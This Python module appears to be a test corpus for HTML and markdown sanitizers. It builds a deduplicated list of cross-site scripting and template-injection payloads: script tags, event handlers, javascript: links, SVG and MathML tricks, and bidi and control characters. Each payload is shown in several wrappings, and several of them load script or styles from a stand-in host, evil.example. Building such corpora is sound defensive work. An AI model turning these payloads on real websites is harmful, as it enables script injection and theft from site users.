"""Texts that want to be more than text: every way into a page that is known, in every wrapping."""

from __future__ import annotations

JS = "window.hacked=1"
OUTSIDE = "https://evil.example/x"

SEEDS = (
    # Scripts and event handlers.
    f"<script>{JS}</script>",
    f"<ScRiPt >{JS}</sCrIpT >",
    f"<script src={OUTSIDE}.js></script>",
    f"<script type=module>import '{OUTSIDE}.js'</script>",
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f"<img src=x onerror={JS}>",
    f"<IMG SRC=x OnErRoR\t=\n{JS}>",
    f"<img/src=x/onerror={JS}//",
    f"<body onload={JS}>",
    f"<details open ontoggle={JS}>",
    f"<input autofocus onfocus={JS}>",
    f"<video><source onerror={JS}></video>",
    f"<marquee onstart={JS}>x</marquee>",
    f"<div style=animation-name:x onanimationstart={JS}>",
    f"<button popovertarget=x onbeforetoggle={JS}>",
    # Links and addresses.
    f"<a href=javascript:{JS}>x</a>",
    f"<a href='java&#x0A;script:{JS}'>x</a>",
    f"<a href='data:text/html,<script>{JS}</script>'>x</a>",
    f"<form action=javascript:{JS}><button>x</button></form>",
    f"<iframe src=javascript:{JS}></iframe>",
    f"<iframe srcdoc='<script>parent.{JS}</script>'></iframe>",
    f"<object data=javascript:{JS}></object><embed src={OUTSIDE}>",
    f"<meta http-equiv=refresh content='0;url={OUTSIDE}'>",
    f"<base href={OUTSIDE}/>",
    f"<link rel=stylesheet href={OUTSIDE}.css>",
    # Markdown, formulas, diagrams.
    f"![x]({OUTSIDE}.png)",
    f"[x](javascript:{JS})",
    f"[x]: {OUTSIDE} '<script>{JS}</script>'",
    f"<{OUTSIDE}> **bold** _x_ `code` ~~~",
    f"$$\\href{{javascript:{JS}}}{{x}}$$ \\(x\\)",
    f"$\\includegraphics{{{OUTSIDE}.png}}$ \\url{{javascript:{JS}}}",
    f"```mermaid\ngraph TD;A[<img src=x onerror={JS}>]-->B\n```",
    f"```html\n<script>{JS}</script>\n```",
    f"| a | b |\n|---|---|\n| <img src={OUTSIDE}> | x |",
    # Templates.
    f"{{{{{JS}}}}}",
    f"${{{JS}}}",
    f"`${{{JS}}}`",
    f"{{{{constructor.constructor('{JS}')()}}}}",
    f"{{% {JS} %}} <%= {JS} %> #{{{JS}}} @{{{JS}}}",
    f"{{value}} {{{{value}}}} ${{value}} {{@html '<img src=x onerror={JS}>'}}",
    f"{{{{''.__class__.__mro__}}}} %s %n {JS}",
    # Drawings, styles, other trees.
    f"<svg onload={JS}><animate onbegin={JS} attributeName=x dur=1s>",
    f"<svg><script href='data:,{JS}'/></svg>",
    f"<svg><a xlink:href=javascript:{JS}><text>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={JS}></style></mglyph></table></mtext></math>",
    f"<style>@import '{OUTSIDE}.css';*{{background:url({OUTSIDE})}}</style>",
    f"<p style=\"background:url('{OUTSIDE}');position:fixed;inset:0\">x</p>",
    f"<template><script>{JS}</script></template><slot onslotchange={JS}>",
    f"<noscript><p title='</noscript><img src=x onerror={JS}>'></noscript>",
    f"<xmp><img src=x onerror={JS}></xmp><plaintext>",
    f"<!--><img src=x onerror={JS}>--> <![CDATA[<script>{JS}</script>]]>",
    # Characters that a page or a terminal obeys.
    f"\x00<scr\x00ipt>{JS}</script>\x1b[31m\x07\x08",
    f"\u202e{JS}\u202d \u2066x\u2069 \u200f\u200e",
    f"<a\x0bhref\x0c=\x1fjavascript:{JS}\x7f\x85\x9f>",
    f"\ufeff\u200b\u2028{JS}\u2029\u00ad\u2060",
    f"\uff1cscript\uff1e{JS}\uff1c/script\uff1e \ufe64img onerror\ufe65",
    "Z\u0351\u036b\u0343\u036aa\u0346l\u0301g\u0300o " * 6,
)


def _entities(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


WRAPPINGS = (
    lambda text: text,
    lambda text: f"\"'>{text}</mark></bdi></blockquote></button></li>",
    lambda text: f'<b title="{text}',
    lambda text: f"&#60;x&#x3e; {_entities(text)} &amp;lt;i&amp;gt; &lt &AMP;",
)


def payloads() -> list[str]:
    """All of them, each once."""
    return list(dict.fromkeys(wrap(seed) for wrap in WRAPPINGS for seed in SEEDS))
